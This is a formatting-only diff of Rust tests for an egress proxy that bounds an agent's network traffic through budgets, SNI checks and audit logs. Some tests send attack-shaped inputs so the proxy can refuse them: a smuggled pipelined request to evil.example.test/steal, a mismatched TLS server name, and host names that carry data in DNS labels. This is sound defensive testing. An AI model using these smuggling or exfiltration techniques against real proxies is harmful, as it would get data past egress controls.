@@ -71,7 +71,11 @@ impl Default for Setup<'_> {
             addresses: &[],
             pins: &[],
             upstream: None,
-            limits: Limits { max_open_connections: 16, max_bytes: 1 << 30, ..Limits::default() },
+            limits: Limits {
+                max_open_connections: 16,
+                max_bytes: 1 << 30,
+                ..Limits::default()
+            },
             sni_ports: &[],
             denied_lines: 256,
             spent: ProxyStats::default(),
@@ -103,7 +107,12 @@ fn start(setup: Setup<'_>) -> Harness {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let proxy = Proxy::start(config, listener, audit, "agent", &setup.spent).unwrap();
     let addr = proxy.local_addr();
-    Harness { proxy, addr, dir, digest }
+    Harness {
+        proxy,
+        addr,
+        dir,
+        digest,
+    }
 }
 
 /// A proxy allowing `HOST:port` with that name pinned to 127.0.0.1 (where the test's server
@@ -121,8 +130,13 @@ fn start_pinned(port: u16, setup: Setup<'_>) -> Harness {
 /// A CONNECT tunnel to `authority` through the proxy, once it answered 200.
 fn open_tunnel(h: &Harness, authority: &str) -> TcpStream {
     let mut tcp = TcpStream::connect(h.addr).unwrap();
-    tcp.write_all(connect_request(authority).as_bytes()).unwrap();
-    assert_eq!(read_response(&mut tcp, false).status, 200, "CONNECT {authority}");
+    tcp.write_all(connect_request(authority).as_bytes())
+        .unwrap();
+    assert_eq!(
+        read_response(&mut tcp, false).status,
+        200,
+        "CONNECT {authority}"
+    );
     tcp
 }
 
@@ -388,7 +402,13 @@ fn request_bodies_with_content_length_and_chunked_framing_arrive_intact() {
 fn connect_to_an_allowed_host_completes_a_tls_handshake() {
     let (port, cert) = tls_server();
     // The tunnel's port gets the SNI check: a ClientHello naming the CONNECT host passes it.
-    let h = start_pinned(port, Setup { sni_ports: &[port], ..Setup::default() });
+    let h = start_pinned(
+        port,
+        Setup {
+            sni_ports: &[port],
+            ..Setup::default()
+        },
+    );
 
     let tcp = open_tunnel(&h, &format!("{HOST}:{port}"));
 
@@ -667,7 +687,10 @@ fn connections_over_the_cap_get_503() {
     let h = start_pinned(
         port,
         Setup {
-            limits: Limits { max_open_connections: 1, ..Limits::default() },
+            limits: Limits {
+                max_open_connections: 1,
+                ..Limits::default()
+            },
             ..Setup::default()
         },
     );
@@ -697,7 +720,10 @@ fn the_byte_cap_cuts_the_connection_and_is_recorded() {
     let h = start_pinned(
         port,
         Setup {
-            limits: Limits { max_bytes: 8192, ..Limits::default() },
+            limits: Limits {
+                max_bytes: 8192,
+                ..Limits::default()
+            },
             ..Setup::default()
         },
     );
@@ -984,7 +1010,11 @@ fn the_summary_and_digest_cover_the_written_log() {
     assert_eq!(summary.hosts["a.example.test:443"].denied, 2);
     assert_eq!(summary.hosts[&format!("{HOST}:80")].denied, 1);
     use sha2::Digest;
-    assert_eq!(h.digest.sha256_hex(), Some(hex::encode(sha2::Sha256::digest(&bytes))), "the running digest is not the file's sha256");
+    assert_eq!(
+        h.digest.sha256_hex(),
+        Some(hex::encode(sha2::Sha256::digest(&bytes))),
+        "the running digest is not the file's sha256"
+    );
 }
 
 // ---------------------------------------------------------------- limits per run and per protocol
@@ -998,7 +1028,15 @@ fn echo_exchange(tcp: &mut TcpStream, line: &str) -> String {
 /// One step of a run: a proxy started from what the run used before (`spent`), on the run's
 /// audit directory.
 fn step(port: u16, limits: Limits, spent: &ProxyStats, dir: Option<tempfile::TempDir>) -> Harness {
-    start_pinned(port, Setup { limits, spent: spent.clone(), dir, ..Setup::default() })
+    start_pinned(
+        port,
+        Setup {
+            limits,
+            spent: spent.clone(),
+            dir,
+            ..Setup::default()
+        },
+    )
 }
 
 /// The reason a CONNECT to the test's host is refused with 503 (a spent budget).
@@ -1018,7 +1056,10 @@ fn wait_allowed(h: &Harness, n: u64) {
 #[test]
 fn the_byte_budget_bounds_the_run_across_three_steps_and_a_resume() {
     let port = echo_server();
-    let limits = Limits { max_bytes: 500, ..Limits::default() };
+    let limits = Limits {
+        max_bytes: 500,
+        ..Limits::default()
+    };
     let line = format!("{}\n", "a".repeat(98)); // 99 bytes up, 105 echoed down: 204 a step
     let mut total = ProxyStats::default();
     let mut dir = None;
@@ -1039,25 +1080,42 @@ fn the_byte_budget_bounds_the_run_across_three_steps_and_a_resume() {
     tcp.write_all(line.as_bytes()).unwrap();
     let mut rest = Vec::new();
     let _ = tcp.read_to_end(&mut rest);
-    assert!(rest.is_empty(), "nothing came back: the line never reached the echo server whole");
+    assert!(
+        rest.is_empty(),
+        "nothing came back: the line never reached the echo server whole"
+    );
     let (stats, records, kept) = h.stop_keeping_dir();
-    assert_eq!((stats.bytes_up, stats.bytes_down, stats.byte_cap_hits), (92, 0, 1));
+    assert_eq!(
+        (stats.bytes_up, stats.bytes_down, stats.byte_cap_hits),
+        (92, 0, 1)
+    );
     assert_eq!(records.last().unwrap().end.as_deref(), Some("byte_cap"));
     total.add(&stats);
     assert_eq!(total.bytes_up + total.bytes_down, 500);
 
     // A resumed run (a new process) starts from the totals its receipt recorded.
-    let recorded: ProxyStats = serde_json::from_value(serde_json::to_value(&total).unwrap()).unwrap();
+    let recorded: ProxyStats =
+        serde_json::from_value(serde_json::to_value(&total).unwrap()).unwrap();
     let h = step(port, limits, &recorded, Some(kept));
-    assert_eq!(refused_at_once(&h, port), "byte_cap: the run's 500 byte budget (500 used before this step) is spent");
+    assert_eq!(
+        refused_at_once(&h, port),
+        "byte_cap: the run's 500 byte budget (500 used before this step) is spent"
+    );
     let (stats, _) = h.stop();
-    assert_eq!((stats.bytes_up, stats.bytes_down, stats.connections), (0, 0, 0));
+    assert_eq!(
+        (stats.bytes_up, stats.bytes_down, stats.connections),
+        (0, 0, 0)
+    );
 }
 
 #[test]
 fn a_per_step_byte_limit_holds_each_step_within_the_run_budget() {
     let port = echo_server();
-    let limits = Limits { max_bytes: 10_000, max_bytes_per_step: Some(150), ..Limits::default() };
+    let limits = Limits {
+        max_bytes: 10_000,
+        max_bytes_per_step: Some(150),
+        ..Limits::default()
+    };
     let line = format!("{}\n", "a".repeat(98));
     let mut total = ProxyStats::default();
     for _ in 0..2 {
@@ -1069,7 +1127,11 @@ fn a_per_step_byte_limit_holds_each_step_within_the_run_budget() {
         let r = ask(h.addr, &connect_request(&format!("{HOST}:{port}")));
         assert_eq!(denied(&r), "byte_cap: this step's 150 byte budget is spent");
         let (stats, _) = h.stop();
-        assert_eq!(stats.bytes_up + stats.bytes_down, 150, "each step gets its own 150 bytes");
+        assert_eq!(
+            stats.bytes_up + stats.bytes_down,
+            150,
+            "each step gets its own 150 bytes"
+        );
         total.add(&stats);
     }
     assert_eq!(total.bytes_up + total.bytes_down, 300);
@@ -1078,7 +1140,10 @@ fn a_per_step_byte_limit_holds_each_step_within_the_run_budget() {
 #[test]
 fn the_connection_budget_counts_connections_over_the_run() {
     let port = echo_server();
-    let limits = Limits { max_connections: 2, ..Limits::default() };
+    let limits = Limits {
+        max_connections: 2,
+        ..Limits::default()
+    };
     let h = step(port, limits.clone(), &ProxyStats::default(), None);
     drop(open_tunnel(&h, &format!("{HOST}:{port}")));
     let (first, _) = h.stop();
@@ -1086,15 +1151,30 @@ fn the_connection_budget_counts_connections_over_the_run() {
     let h = step(port, limits, &first, None);
     drop(open_tunnel(&h, &format!("{HOST}:{port}")));
     wait_allowed(&h, 1);
-    assert_eq!(refused_at_once(&h, port), "connection_budget: the run's 2 connection budget (1 used before this step) is spent");
+    assert_eq!(
+        refused_at_once(&h, port),
+        "connection_budget: the run's 2 connection budget (1 used before this step) is spent"
+    );
     let (second, _) = h.stop();
-    assert_eq!((second.connections, second.allowed, second.denied), (1, 1, 1));
+    assert_eq!(
+        (second.connections, second.allowed, second.denied),
+        (1, 1, 1)
+    );
 }
 
 #[test]
 fn an_idle_tunnel_is_cut_after_the_idle_timeout() {
     let port = echo_server();
-    let h = start_pinned(port, Setup { limits: Limits { idle_timeout: Duration::from_millis(300), ..Limits::default() }, ..Setup::default() });
+    let h = start_pinned(
+        port,
+        Setup {
+            limits: Limits {
+                idle_timeout: Duration::from_millis(300),
+                ..Limits::default()
+            },
+            ..Setup::default()
+        },
+    );
     let mut tcp = open_tunnel(&h, &format!("{HOST}:{port}"));
     assert_eq!(echo_exchange(&mut tcp, "hi\n"), "echo: hi\n");
     // Then silence both ways: the proxy closes the tunnel (the client sees end-of-stream).
@@ -1147,7 +1227,8 @@ fn a_pipelined_second_request_never_reaches_the_origin() {
     let h = start_pinned(port, Setup::default());
     let mut tcp = TcpStream::connect(h.addr).unwrap();
     let smuggled = "GET http://evil.example.test/steal HTTP/1.1\r\nHost: evil.example.test\r\n\r\n";
-    tcp.write_all(format!("GET http://{HOST}:{port}/one HTTP/1.1\r\n\r\n{smuggled}").as_bytes()).unwrap();
+    tcp.write_all(format!("GET http://{HOST}:{port}/one HTTP/1.1\r\n\r\n{smuggled}").as_bytes())
+        .unwrap();
     let response = read_response(&mut tcp, false);
     assert_eq!(response.status, 200);
     drop(tcp);
@@ -1155,7 +1236,12 @@ fn a_pipelined_second_request_never_reaches_the_origin() {
     while let Some(head) = heads.recv_timeout(Duration::from_secs(30)).unwrap() {
         seen.push(head);
     }
-    assert_eq!(seen, vec![format!("GET /one HTTP/1.1\r\nHost: {HOST}:{port}\r\nConnection: close\r\n\r\n")]);
+    assert_eq!(
+        seen,
+        vec![format!(
+            "GET /one HTTP/1.1\r\nHost: {HOST}:{port}\r\nConnection: close\r\n\r\n"
+        )]
+    );
     let (_, records) = h.stop();
     assert_eq!(
         records[0].detail.as_deref(),
@@ -1218,16 +1304,29 @@ fn client_hello_for(name: &str, tcp: &mut TcpStream) {
 #[test]
 fn a_tunnel_whose_client_hello_names_another_host_is_closed_before_any_byte_reaches_it() {
     let (port, received) = byte_counting_server();
-    let h = start_pinned(port, Setup { sni_ports: &[port], ..Setup::default() });
+    let h = start_pinned(
+        port,
+        Setup {
+            sni_ports: &[port],
+            ..Setup::default()
+        },
+    );
     let mut tcp = open_tunnel(&h, &format!("{HOST}:{port}"));
     client_hello_for("evil.example.test", &mut tcp);
     let mut rest = Vec::new();
     let _ = tcp.read_to_end(&mut rest);
     assert!(rest.is_empty(), "the tunnel was closed");
-    assert_eq!(received.recv_timeout(Duration::from_secs(30)).unwrap(), 0, "the destination got no byte");
+    assert_eq!(
+        received.recv_timeout(Duration::from_secs(30)).unwrap(),
+        0,
+        "the destination got no byte"
+    );
     let (stats, records) = h.stop();
     assert_eq!((stats.allowed, stats.denied), (0, 1));
-    assert_eq!((records[0].decision, records[0].reason.as_deref()), (Decision::Denied, Some("sni_mismatch")));
+    assert_eq!(
+        (records[0].decision, records[0].reason.as_deref()),
+        (Decision::Denied, Some("sni_mismatch"))
+    );
     assert_eq!(
         records[0].detail.as_deref(),
         Some(format!("the tunnel to {HOST}:{port} opened TLS for `evil.example.test`; the server name must be the CONNECT host (list the endpoint in sni_check_exempt if it needs otherwise)").as_str())
@@ -1237,9 +1336,16 @@ fn a_tunnel_whose_client_hello_names_another_host_is_closed_before_any_byte_reac
 #[test]
 fn a_checked_tunnel_that_does_not_open_with_tls_is_closed() {
     let (port, received) = byte_counting_server();
-    let h = start_pinned(port, Setup { sni_ports: &[port], ..Setup::default() });
+    let h = start_pinned(
+        port,
+        Setup {
+            sni_ports: &[port],
+            ..Setup::default()
+        },
+    );
     let mut tcp = open_tunnel(&h, &format!("{HOST}:{port}"));
-    tcp.write_all(b"GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n").unwrap();
+    tcp.write_all(b"GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n")
+        .unwrap();
     let mut rest = Vec::new();
     let _ = tcp.read_to_end(&mut rest);
     assert_eq!(received.recv_timeout(Duration::from_secs(30)).unwrap(), 0);
@@ -1259,13 +1365,24 @@ fn an_exempt_endpoint_skips_the_sni_check() {
         .unwrap();
     let dir = tempfile::tempdir().unwrap();
     let audit = AuditLog::open(&SafeDir::open(dir.path()).unwrap(), "egress.jsonl").unwrap();
-    let proxy = Proxy::start(config, TcpListener::bind("127.0.0.1:0").unwrap(), audit, "agent", &ProxyStats::default()).unwrap();
+    let proxy = Proxy::start(
+        config,
+        TcpListener::bind("127.0.0.1:0").unwrap(),
+        audit,
+        "agent",
+        &ProxyStats::default(),
+    )
+    .unwrap();
     let mut tcp = TcpStream::connect(proxy.local_addr()).unwrap();
-    tcp.write_all(connect_request(&format!("{HOST}:{port}")).as_bytes()).unwrap();
+    tcp.write_all(connect_request(&format!("{HOST}:{port}")).as_bytes())
+        .unwrap();
     assert_eq!(read_response(&mut tcp, false).status, 200);
     client_hello_for("other.example.test", &mut tcp);
     tcp.shutdown(std::net::Shutdown::Write).unwrap();
-    assert!(received.recv_timeout(Duration::from_secs(30)).unwrap() > 0, "the ClientHello was relayed");
+    assert!(
+        received.recv_timeout(Duration::from_secs(30)).unwrap() > 0,
+        "the ClientHello was relayed"
+    );
     assert_eq!(proxy.stop().allowed, 1);
 }
 
@@ -1284,50 +1401,103 @@ impl loopexec::egress::Resolver for RecordingResolver {
 fn a_wildcard_name_whose_labels_carry_data_is_refused_before_any_resolver_sees_it() {
     let port = echo_server();
     let allow = [format!("*.example.test:{port}")];
-    let config = EgressConfig::from_parts(&allow, &["127.0.0.1".to_string()], &[], None, Limits::default()).unwrap();
+    let config = EgressConfig::from_parts(
+        &allow,
+        &["127.0.0.1".to_string()],
+        &[],
+        None,
+        Limits::default(),
+    )
+    .unwrap();
     let resolver = Arc::new(RecordingResolver::default());
     let config = config.with_resolver(resolver.clone());
     let dir = tempfile::tempdir().unwrap();
     let audit = AuditLog::open(&SafeDir::open(dir.path()).unwrap(), "egress.jsonl").unwrap();
-    let proxy = Proxy::start(config, TcpListener::bind("127.0.0.1:0").unwrap(), audit, "agent", &ProxyStats::default()).unwrap();
+    let proxy = Proxy::start(
+        config,
+        TcpListener::bind("127.0.0.1:0").unwrap(),
+        audit,
+        "agent",
+        &ProxyStats::default(),
+    )
+    .unwrap();
     let exfiltrating = [
         "c2vjcmv0lwtles0xmjm0nty3odkwywjjzgvm.example.test", // one 36-byte label
-        "part1.part2.part3.example.test",                   // three labels
-        "key_0123.example.test",                            // `_`: no host name has one
+        "part1.part2.part3.example.test",                    // three labels
+        "key_0123.example.test",                             // `_`: no host name has one
     ];
     for name in exfiltrating {
-        let r = ask(proxy.local_addr(), &connect_request(&format!("{name}:{port}")));
+        let r = ask(
+            proxy.local_addr(),
+            &connect_request(&format!("{name}:{port}")),
+        );
         assert_eq!(r.status, 403, "{name}");
-        assert!(denied(&r).starts_with(&format!("wildcard_name_refused: {name} matches *.example.test:{port}, but ")), "{}", denied(&r));
+        assert!(
+            denied(&r).starts_with(&format!(
+                "wildcard_name_refused: {name} matches *.example.test:{port}, but "
+            )),
+            "{}",
+            denied(&r)
+        );
     }
-    assert!(resolver.0.lock().unwrap().is_empty(), "no refused name reached the resolver");
+    assert!(
+        resolver.0.lock().unwrap().is_empty(),
+        "no refused name reached the resolver"
+    );
     let mut tcp = TcpStream::connect(proxy.local_addr()).unwrap();
-    tcp.write_all(connect_request(&format!("eu-west.api.example.test:{port}")).as_bytes()).unwrap();
-    assert_eq!(read_response(&mut tcp, false).status, 200, "a host-shaped name is resolved and allowed");
-    assert_eq!(*resolver.0.lock().unwrap(), vec!["eu-west.api.example.test".to_string()]);
+    tcp.write_all(connect_request(&format!("eu-west.api.example.test:{port}")).as_bytes())
+        .unwrap();
+    assert_eq!(
+        read_response(&mut tcp, false).status,
+        200,
+        "a host-shaped name is resolved and allowed"
+    );
+    assert_eq!(
+        *resolver.0.lock().unwrap(),
+        vec!["eu-west.api.example.test".to_string()]
+    );
 }
 
 #[test]
 fn a_flood_of_refused_requests_leaves_a_bounded_log_with_exact_counts() {
-    let h = start(Setup { allow: &[HOST.to_string()], denied_lines: 8, ..Setup::default() });
+    let h = start(Setup {
+        allow: &[HOST.to_string()],
+        denied_lines: 8,
+        ..Setup::default()
+    });
     for i in 0..1000 {
-        let request = if i % 2 == 0 { connect_request(&format!("flood{i}.example.test:443")) } else { "garbage\r\n\r\n".to_string() };
+        let request = if i % 2 == 0 {
+            connect_request(&format!("flood{i}.example.test:443"))
+        } else {
+            "garbage\r\n\r\n".to_string()
+        };
         assert!(matches!(ask(h.addr, &request).status, 403 | 400));
     }
     let stats = h.proxy.stop();
     assert_eq!(stats.denied, 1000);
     let bytes = std::fs::read(h.dir.path().join("egress.jsonl")).unwrap();
-    let records: Vec<AuditRecord> = bytes.split(|b| *b == b'\n').filter(|l| !l.is_empty()).map(|l| serde_json::from_slice(l).unwrap()).collect();
+    let records: Vec<AuditRecord> = bytes
+        .split(|b| *b == b'\n')
+        .filter(|l| !l.is_empty())
+        .map(|l| serde_json::from_slice(l).unwrap())
+        .collect();
     // 8 lines of their own, aggregates when the step's refusals reach 16, 32, ..., 512, and the
     // rest when the step ends.
     assert_eq!(records.len(), 8 + 6 + 1);
     assert!(records[..8].iter().all(|r| r.aggregated.is_none()));
-    let counts: Vec<u64> = records[8..].iter().map(|r| r.aggregated.as_ref().unwrap().values().sum()).collect();
+    let counts: Vec<u64> = records[8..]
+        .iter()
+        .map(|r| r.aggregated.as_ref().unwrap().values().sum())
+        .collect();
     assert_eq!(counts, vec![8, 16, 32, 64, 128, 256, 488]);
     let last = records.last().unwrap().aggregated.clone().unwrap();
     assert_eq!((last["no_matching_rule"], last["malformed"]), (244, 244));
     let summary = loopexec::egress::audit::summarize(&bytes).unwrap();
     assert_eq!(summary.denied, 1000, "the counts add up exactly");
     use sha2::Digest;
-    assert_eq!(h.digest.sha256_hex(), Some(hex::encode(sha2::Sha256::digest(&bytes))), "the aggregate lines are in the digest");
+    assert_eq!(
+        h.digest.sha256_hex(),
+        Some(hex::encode(sha2::Sha256::digest(&bytes))),
+        "the aggregate lines are in the digest"
+    );
 }
